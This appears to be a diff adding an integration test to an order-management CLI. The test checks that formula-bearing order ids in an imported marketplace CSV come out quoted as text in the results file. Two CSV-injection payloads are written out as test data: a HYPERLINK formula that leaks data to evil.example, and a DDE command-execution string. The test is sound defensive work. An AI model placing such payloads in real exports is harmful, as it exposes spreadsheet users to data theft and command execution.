@@ -2,6 +2,8 @@
 server of the `oms ops` tests), over the test worker, Temporal and PostgreSQL."""
 
 import asyncio
+import csv
+import io
 import json
 import secrets
 from pathlib import Path
@@ -11,6 +13,8 @@ from click.testing import Result
 from typer.testing import CliRunner
 
 from cli import app as oms
+from domain.spreadsheet import FORMULA_TRIGGERS
+from tests.data.marketplace_orders import COLUMNS, row
 from tests.integration.helpers import new_sku
 from tests.integration.test_ops_cli import api_url
 
@@ -55,3 +59,29 @@ async def test_import_prints_and_writes_per_row_results(api: httpx.AsyncClient, 
     not_json.write_text("id,sku\n", encoding="utf-8")
     unreadable = await oms_import(api_url, str(not_json), "--channel", "social")
     assert unreadable.exit_code == 2 and "file" in unreadable.output
+
+
+async def test_results_csv_of_a_hostile_export_runs_no_formula(api: httpx.AsyncClient, api_url: str, tmp_path: Path) -> None:
+    """A shop's export whose order ids are spreadsheet formulas: the results CSV we write shows them
+    as text (a leading quote), whether the order was created or rejected."""
+    sku = await new_sku(api, {"WH-EAST": 5})
+    token = secrets.token_hex(4)
+    hyperlink = f'=HYPERLINK("http://evil.example/?leak={token}"&A1,"open")'
+    dde = f"@SUM(1+1)*cmd|' /C calc {token}'!A0"
+    bad = {**row(dde, sku, "99.00", 2), "buyer-email": "-not-an-address"}
+    out = io.StringIO()
+    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\n")
+    writer.writeheader()
+    writer.writerows([row(hyperlink, sku, "99.00", 1), bad])
+    export = tmp_path / "hostile.csv"
+    export.write_text(out.getvalue(), encoding="utf-8")
+    results = tmp_path / "results.csv"
+
+    done = await oms_import(api_url, str(export), "--channel", "marketplace", "--output", str(results))
+    assert "1 created, 0 duplicate, 1 rejected, 0 failed of 2 rows" in done.output, done.output
+    assert hyperlink in done.output  # the terminal shows the id as it is (Rich markup-safe too)
+    header, *rows = list(csv.reader(io.StringIO(results.read_text(encoding="utf-8"))))
+    assert header == ["row", "channel_order_id", "outcome", "order_id", "reasons"]
+    assert [(r[0], r[1], r[2]) for r in rows] == [("2", "'" + hyperlink, "created"), ("3", "'" + dde, "rejected")]
+    assert all(not cell or cell[0] not in FORMULA_TRIGGERS for r in rows for cell in r)
+    assert "buyer-email" in rows[1][4]
